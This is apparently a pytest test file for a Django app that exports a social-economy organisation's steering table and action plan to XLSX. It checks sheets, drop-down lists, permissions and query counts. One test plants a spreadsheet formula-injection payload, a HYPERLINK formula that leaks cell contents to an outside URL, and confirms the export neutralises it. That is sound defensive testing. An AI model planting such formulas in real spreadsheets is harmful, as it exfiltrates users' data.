import datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from demarches import exports, services
from demarches.models import Answer
from members.models import Role
from progress.lib import xlsx
from tests.demarches.factories import (
    ActionFactory,
    AnswerFactory,
    CycleFactory,
    ThemeChoiceFactory,
)
from tests.guide.factories import DomainFactory, ItemFactory, ThemeFactory
from tests.members.factories import RoleFactory

pytestmark = pytest.mark.django_db

ANSWER_HEADERS = [
    "Réf.",
    "Thème",
    "Domaine d'action",
    "Question ou indicateur",
    "Type",
    "Unité",
    "État des lieux 2026",
    "Valeur 2026",
    "Appréciation",
    "Raison si non traité",
    "Bonnes pratiques",
    "Améliorations et axes de progrès",
    "Objectif à 1 an",
    "Cible à 1 an",
    "Objectif à 3 ans",
    "Cible à 3 ans",
]
ACTION_HEADERS = [
    "Réf.",
    "Action",
    "Description",
    "Items liés",
    "Responsable",
    "Budget (€)",
    "Début",
    "Échéance",
    "Statut",
    "Petit pas",
    "Efficacité vérifiée",
    "Note de vérification",
]


@pytest.fixture
def cycle():
    cycle = CycleFactory(structure__name="La Ressourcerie du Val", year=2026)
    theme = ThemeFactory(guide=cycle.guide, code="1", title="Gouvernance démocratique")
    domain = DomainFactory(theme=theme, code="1.3", title="Exercice du pouvoir")
    question = ItemFactory(
        domain=domain,
        code="1.3.1",
        text="Le taux de participation à l'AG est-il satisfaisant ?",
    )
    indicator = ItemFactory(
        domain=domain, code="1.3.2", indicator=True, text="Pourcentage d'admin formés"
    )
    ThemeChoiceFactory(cycle=cycle, theme=theme, priority=1)
    ThemeFactory(guide=cycle.guide, code="2", title="Emploi")
    AnswerFactory(
        cycle=cycle,
        item=question,
        situation="Pas de données consolidées",
        assessment=Answer.Assessment.TO_IMPROVE,
        objective_1y="Dresser l'état des lieux",
    )
    formed = AnswerFactory(
        cycle=cycle,
        item=indicator,
        value=Decimal("40"),
        target_1y=Decimal("62.5"),
        assessment=Answer.Assessment.GOOD_PRACTICE,
    )
    action = ActionFactory(
        cycle=cycle,
        title="Former les administrateurs",
        owner_name="Camille",
        budget=Decimal("1200.50"),
        starts_on=datetime.date(2027, 1, 10),
        due_on=datetime.date(2027, 3, 31),
        is_quick_win=True,
    )
    action.answers.set([formed])
    return cycle


def workbook_of(cycle):
    return load_workbook(BytesIO(xlsx.workbook_bytes(exports.export_cycle(cycle))))


def rows(sheet) -> list[tuple]:
    return list(sheet.iter_rows(values_only=True))


def validations(sheet) -> dict[str, str]:
    """The drop-down lists of a sheet, by the header of their column."""
    headers = {cell.column_letter: cell.value for cell in sheet[1]}
    return {
        headers[str(validation.sqref).split(":")[0].rstrip("0123456789")]: validation.formula1
        for validation in sheet.data_validations.dataValidation
    }


def test_it_writes_the_three_sheets_a_read_me_and_a_hidden_identification(cycle):
    book = workbook_of(cycle)
    assert book.sheetnames == [
        "Tableau de pilotage",
        "Plan d'action",
        "Thèmes",
        "Lisez-moi",
        "Identification",
    ]
    assert book["Identification"].sheet_state == "hidden"
    identity = dict(rows(book["Identification"]))
    assert identity["structure_id"] == cycle.structure_id
    assert identity["structure"] == "La Ressourcerie du Val"
    assert (identity["cycle_id"], identity["year"]) == (cycle.pk, 2026)
    assert identity["exported_at"]


def test_the_steering_table_has_one_row_per_item_like_the_seeds_table(cycle):
    table = rows(workbook_of(cycle)["Tableau de pilotage"])
    assert list(table[0]) == ANSWER_HEADERS
    assert table[1] == (
        "1.3.1",
        "1. Gouvernance démocratique",
        "1.3 Exercice du pouvoir",
        "Le taux de participation à l'AG est-il satisfaisant ?",
        "Question",
        None,
        "Pas de données consolidées",
        None,
        "À améliorer",
        None,
        None,
        None,
        "Dresser l'état des lieux",
        None,
        None,
        None,
    )
    assert table[2][:9] == (
        "1.3.2",
        "1. Gouvernance démocratique",
        "1.3 Exercice du pouvoir",
        "Pourcentage d'admin formés",
        "Indicateur",
        "%",
        None,
        40,
        "Bonne pratique",
    )
    assert table[2][13] == 62.5


def test_the_action_plan_sheet(cycle):
    action = cycle.actions.get()
    sheet = workbook_of(cycle)["Plan d'action"]
    table = rows(sheet)
    assert list(table[0]) == ACTION_HEADERS
    assert table[1] == (
        f"A{action.pk}",
        "Former les administrateurs",
        None,
        "1.3.2",
        "Camille",
        1200.5,
        sheet["G2"].value,
        sheet["H2"].value,
        "À faire",
        "Oui",
        "Non",
        None,
    )
    assert (sheet["G2"].value.date(), sheet["H2"].value.date()) == (
        datetime.date(2027, 1, 10),
        datetime.date(2027, 3, 31),
    )
    assert sheet["F2"].number_format == '#,##0.00 "€"'
    assert sheet["G2"].is_date and sheet["G2"].number_format == "DD/MM/YYYY"


def test_the_themes_sheet_lists_every_theme_retained_or_not(cycle):
    table = rows(workbook_of(cycle)["Thèmes"])
    assert table == [
        ("Réf.", "Thème", "Retenu", "Priorité", "Raison si laissé de côté"),
        ("1", "Gouvernance démocratique", "Oui", 1, None),
        ("2", "Emploi", None, None, None),
    ]


def test_each_table_has_a_frozen_header_a_filter_and_drop_down_lists(cycle):
    book = workbook_of(cycle)
    for name in ["Tableau de pilotage", "Plan d'action", "Thèmes"]:
        assert book[name].freeze_panes == "A2"
        assert book[name].auto_filter.ref.startswith("A1:")
        assert book[name]["A1"].font.bold
    assert validations(book["Tableau de pilotage"]) == {
        "Appréciation": '"Bonne pratique,À améliorer,Non traité"'
    }
    assert validations(book["Plan d'action"]) == {
        "Statut": '"À faire,En cours,Fait,Abandonné"',
        "Petit pas": '"Oui,Non"',
        "Efficacité vérifiée": '"Oui,Non"',
    }
    assert validations(book["Thèmes"]) == {"Retenu": '"Oui,Non"'}


def test_long_texts_wrap(cycle):
    sheet = workbook_of(cycle)["Tableau de pilotage"]
    assert sheet["G2"].alignment.wrap_text  # État des lieux
    assert not sheet["A2"].alignment.wrap_text


def test_formula_looking_texts_are_neutralised(cycle):
    answer = cycle.answers.get(item__code="1.3.1")
    answer.situation = '=HYPERLINK("http://example.org/?leak="&A1;"Cliquez")'
    answer.save()
    cycle.actions.update(title="+33 6 12 34 56 78", check_note="@SUM(1+1)")
    book = workbook_of(cycle)
    assert book["Tableau de pilotage"]["G2"].value == "'" + answer.situation
    assert book["Tableau de pilotage"]["G2"].data_type == "s"
    assert book["Plan d'action"]["B2"].value == "'+33 6 12 34 56 78"
    assert book["Plan d'action"]["L2"].value == "'@SUM(1+1)"


def test_last_years_value_and_objective_come_after_marked_as_not_imported(cycle):
    cycle.answers.all().delete()
    cycle.actions.all().delete()
    before = CycleFactory(structure=cycle.structure, guide=cycle.guide, year=2025)
    item = ItemFactory(domain__theme__guide=cycle.guide, indicator=True, code="4.1.1")
    old = AnswerFactory(
        cycle=before, item=item, value=Decimal("30"), objective_1y="Former", target_1y=40
    )
    cycle.previous = before
    cycle.save()
    AnswerFactory(cycle=cycle, item=item, previous=old, value=Decimal("35"))

    sheet = workbook_of(cycle)["Tableau de pilotage"]
    table = rows(sheet)
    assert table[0][16:] == (
        "Valeur 2025 (rappel, non importé)",
        "Objectif 2025 (rappel, non importé)",
    )
    assert table[1][16:] == (30, "Former (cible : 40 %)")
    assert sheet["Q1"].font.italic


def test_the_download_is_named_after_the_structure_and_year_and_marks_step_9(client, cycle):
    pilot = RoleFactory(kind=Role.Kind.PILOT, structure=cycle.structure).person
    client.force_login(pilot)
    response = client.get(reverse("demarches:export", args=[cycle.pk]))
    assert response["Content-Type"] == xlsx.CONTENT_TYPE
    assert (
        'filename="tableau-de-pilotage-la-ressourcerie-du-val-2026.xlsx"'
        in response["Content-Disposition"]
    )
    load_workbook(BytesIO(response.content))
    cycle.refresh_from_db()
    assert cycle.table_exported_at is not None


def test_a_board_members_download_does_not_mark_step_9(client, cycle):
    client.force_login(RoleFactory(kind=Role.Kind.BOARD_MEMBER, structure=cycle.structure).person)
    response = client.get(reverse("demarches:export", args=[cycle.pk]))
    assert response.status_code == 200
    cycle.refresh_from_db()
    assert cycle.table_exported_at is None


def test_the_first_export_date_is_kept(client, cycle):
    services.record_export(cycle)
    cycle.refresh_from_db()
    first = cycle.table_exported_at
    client.force_login(RoleFactory(structure=cycle.structure).person)
    client.get(reverse("demarches:export", args=[cycle.pk]))
    cycle.refresh_from_db()
    assert cycle.table_exported_at == first


def test_the_page_explains_the_table_and_offers_the_download(client, cycle):
    client.force_login(RoleFactory(kind=Role.Kind.BOARD_MEMBER, structure=cycle.structure).person)
    content = client.get(reverse("demarches:transfer", args=[cycle.pk])).content.decode()
    assert "Le tableau de pilotage" in content
    assert reverse("demarches:export", args=[cycle.pk]) in content
    assert "Importer le tableau modifié hors ligne" not in content


def test_the_pilot_pair_also_finds_the_import_form(client, cycle):
    client.force_login(RoleFactory(kind=Role.Kind.COPILOT, structure=cycle.structure).person)
    content = client.get(reverse("demarches:transfer", args=[cycle.pk])).content.decode()
    assert "Importer le tableau modifié hors ligne" in content
    assert 'name="file"' in content


def fill(cycle, size):
    domain = DomainFactory(theme__guide=cycle.guide)
    answers = [
        AnswerFactory(cycle=cycle, item=ItemFactory(domain=domain, indicator=i % 2 == 0))
        for i in range(size)
    ]
    for i in range(size):
        owner = RoleFactory(kind=Role.Kind.CONTRIBUTOR, structure=cycle.structure).person
        action = ActionFactory(cycle=cycle, owner=owner)
        action.answers.set(answers[i : i + 2])


@pytest.mark.parametrize("size", [2, 25])
def test_the_export_runs_the_same_queries_whatever_the_size(cycle, size, django_assert_num_queries):
    fill(cycle, size)
    # answers, links of the actions, actions with their owner, theme choices, themes
    with django_assert_num_queries(5):
        exports.export_cycle(cycle)


def test_units_are_written_in_words(cycle):
    item = ItemFactory(domain__theme__guide=cycle.guide, indicator=True, unit="count")
    AnswerFactory(cycle=cycle, item=item)
    table = rows(workbook_of(cycle)["Tableau de pilotage"])
    assert table[-1][5] == "nombre"
